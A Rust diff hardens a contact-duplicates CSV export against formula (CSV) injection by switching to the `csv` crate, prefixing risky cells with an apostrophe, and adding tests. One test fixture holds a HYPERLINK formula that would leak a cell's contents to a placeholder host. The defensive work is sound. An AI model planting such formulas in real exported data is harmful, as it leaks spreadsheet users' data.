@@ -440,17 +440,23 @@ pub async fn link_contact(
     Ok(())
 }
 
-/// The report as CSV (one line per member).
+/// The report as CSV (one line per member), written by the `csv` crate (RFC 4180 quoting,
+/// CR and LF inside cells included) with every cell made [`spreadsheet_safe`].
 pub fn to_csv(groups: &[Group]) -> String {
-    fn cell(text: &str) -> String {
-        if text.contains([',', '"', '\n']) {
-            format!("\"{}\"", text.replace('"', "\"\""))
-        } else {
-            text.to_owned()
-        }
-    }
-    let mut out =
-        String::from("group_id,kind,email,state,contact_id,person_id,name,differing_fields\n");
+    let mut writer = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Necessary)
+        .from_writer(Vec::new());
+    let header = [
+        "group_id",
+        "kind",
+        "email",
+        "state",
+        "contact_id",
+        "person_id",
+        "name",
+        "differing_fields",
+    ];
+    let mut result = writer.write_record(header);
     for group in groups {
         for member in &group.members {
             let row = [
@@ -463,9 +469,64 @@ pub fn to_csv(groups: &[Group]) -> String {
                 member.name.clone().unwrap_or_default(),
                 group.differing_fields.join(" "),
             ];
-            out.push_str(&row.iter().map(|c| cell(c)).collect::<Vec<_>>().join(","));
-            out.push('\n');
+            result = result.and_then(|()| {
+                writer.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()))
+            });
         }
     }
-    out
+    // Writing to memory cannot fail; a failure would show as a truncated export.
+    if let Err(error) = result {
+        tracing::error!(error = %error, "The duplicates CSV could not be written in full.");
+    }
+    String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default()
+}
+
+/// A cell no spreadsheet takes for a formula (OWASP "CSV injection"): text starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`. Every CSV tandem writes goes
+/// through it.
+pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        for risky in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(spreadsheet_safe(risky), format!("'{risky}"));
+        }
+        assert_eq!(spreadsheet_safe("Ada = Lovelace"), "Ada = Lovelace");
+    }
+
+    #[test]
+    fn the_csv_export_quotes_carriage_returns_and_neutralises_formulas() {
+        let group = Group {
+            id: Uuid::nil(),
+            kind: kind::LOCAL_COLLISION.to_owned(),
+            key: "a@example.com".to_owned(),
+            state: state::OPEN.to_owned(),
+            members: vec![Member {
+                contact_id: Uuid::nil(),
+                person_id: Some(7),
+                name: Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")\r\nnext".to_owned()),
+                archived: false,
+                updated_at: Utc::now(),
+            }],
+            differing_fields: vec![],
+        };
+        let csv = to_csv(&[group]);
+        assert!(
+            csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\r\nnext\""),
+            "{csv}"
+        );
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let row = reader.records().next().unwrap().unwrap();
+        assert!(row[6].starts_with("'="));
+    }
 }
